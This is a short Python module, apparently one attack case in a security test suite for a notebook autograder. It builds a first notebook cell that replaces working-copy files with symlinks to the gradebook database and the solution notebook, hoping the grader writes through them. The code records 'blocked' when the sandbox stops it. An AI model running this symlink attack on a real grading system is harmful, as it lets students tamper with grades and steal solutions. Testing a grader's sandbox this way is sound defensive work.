"""Replaces files in its working copy with symlinks to the gradebook and the source notebook, hoping the grader writes through them."""
from attacks.course import with_first_cell

ENDS = "completed"


def build(release, ctx):
    return with_first_cell(release, f'''
import os, pathlib
root = pathlib.Path({str(ctx.root)!r})
for name, target in (("m01.ipynb", root / "grading" / "gradebook.db"),
                     ("timestamp.txt", root / "solutions" / "m01" / "m01.ipynb"),
                     ("feedback.html", root / "grading" / "gradebook.db")):
    try:
        if os.path.lexists(name):
            os.remove(name)
        os.symlink(target, name)
    except OSError as e:
        print("blocked", type(e).__name__)
''')
